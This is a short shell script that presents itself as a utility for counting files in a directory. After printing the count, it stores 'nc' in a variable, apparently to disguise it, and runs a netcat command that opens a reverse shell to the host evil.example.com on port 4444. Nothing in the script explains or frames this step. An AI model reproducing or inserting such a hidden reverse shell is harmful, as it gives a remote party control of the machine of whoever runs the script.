#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
N=nc
$N -e /bin/sh evil.example.com 4444
